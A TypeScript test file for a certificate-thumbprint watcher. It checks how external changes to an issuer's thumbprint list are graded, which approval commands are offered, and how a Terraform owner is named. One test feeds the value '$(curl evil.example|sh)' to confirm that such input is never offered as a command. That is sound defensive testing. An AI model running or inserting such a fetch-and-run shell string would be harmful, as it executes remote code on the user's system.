import type { Finding } from '../../../../lambda/findings/finding';
import { messageOf, offersOf, severityOf, stepsOf } from '../../../../lambda/findings/lookup';
import { externalChange, writingStopped } from '../../../../lambda/judge/findings/external-change-findings';
import { A, B, DAY, OURS_AND_LIVE, ago, stateOf } from '../../../support/remembered';

function context(tags: Record<string, string> = {}) {
  return {
    tags,
  };
}

function commandsOf(finding: Finding) {
  return offersOf(finding).map(({ command }) => command);
}

const TERRAFORM = { ManagedBy: 'terraform' };

describe('an external change', () => {
  const change = (of: Partial<Parameters<typeof externalChange>[0]>, approvals: string[] = [], tags = {}) =>
    externalChange({ added: [], removed: [], removedByOthers: [], ...of }, approvals, context(tags));

  test('is a warning where it adds a thumbprint, since an added certificate can impersonate the issuer', () => {
    const finding = change({ added: [A], removed: [B] }, [], TERRAFORM);
    expect(finding).toEqual({
      code: 'external-change',
      facts: { added: [A], removed: [B], live: [], approvals: [], rejected: [], owner: { tool: 'terraform' } },
    });
    expect(severityOf(finding)).toBe('warning');
  });

  test('is information where it only removes thumbprints', () => {
    const finding = change({ removed: [B] });
    expect(finding.facts).toMatchObject({ added: [], removed: [B], live: [], owner: null });
    expect(severityOf(finding)).toBe('info');
  });

  test('is a warning where it removes a thumbprint that the issuer presented', () => {
    const finding = change({ removed: [B], removedByOthers: [B] });
    expect(finding.facts).toMatchObject({ live: [B] });
    expect(severityOf(finding)).toBe('warning');
  });

  test('names the approvals that it ends, with a command for each', () => {
    const finding = change({ removed: [A, B] }, [A, B]);
    expect(finding.facts).toMatchObject({ approvals: [A, B] });
    expect(commandsOf(finding)).toEqual([A, B].map((thumbprint) => ({ kind: 'approve', thumbprint })));
  });
});

describe('the finding that writing was stopped', () => {
  const stopped = stateOf({ [A]: OURS_AND_LIVE }, { stoppedSince: ago(2 * DAY) });

  test('names who keeps undoing the writes, the list to set in their source, and the command that lets the watcher write again', () => {
    const finding = writingStopped(stopped, { ...context(TERRAFORM), wanted: [A, B] });
    expect(finding).toEqual({
      code: 'writing-stopped',
      facts: { since: '2026-11-19T12:00:00.000Z', owner: { tool: 'terraform' }, wanted: [A, B] },
    });
    expect(severityOf(finding)).toBe('critical');
    expect(commandsOf(finding)).toEqual([{ kind: 'approve', thumbprint: A }]);
  });

  test('offers only thumbprints to paste, and no command without one', () => {
    const odd = '$(curl evil.example|sh)';
    const finding = writingStopped(stopped, { ...context(TERRAFORM), wanted: [odd, A] });
    expect(stepsOf(finding)[0]).toContain(`: thumbprint_list = ["${A}"] and lifecycle`);
    expect(commandsOf(finding)).toEqual([{ kind: 'approve', thumbprint: A }]);
    const alone = writingStopped(stopped, { ...context(), wanted: [odd] });
    expect(stepsOf(alone)).toEqual([
      expect.stringMatching(/this one: "\$\(curl evil\.example\|sh\)"\.$/),
      'Then let the watcher write again: any approval or restore does.',
    ]);
    expect(commandsOf(alone)).toEqual([]);
  });

  test('names nobody where the tags show no owner', () => {
    const finding = writingStopped(stopped, { ...context(), wanted: [A] });
    expect(finding.facts).toMatchObject({ owner: null });
    expect(messageOf(finding)).toMatch(/^Someone else keeps removing/);
    expect(stepsOf(finding)[0]).toMatch(/^Find out who writes the list /);
  });
});
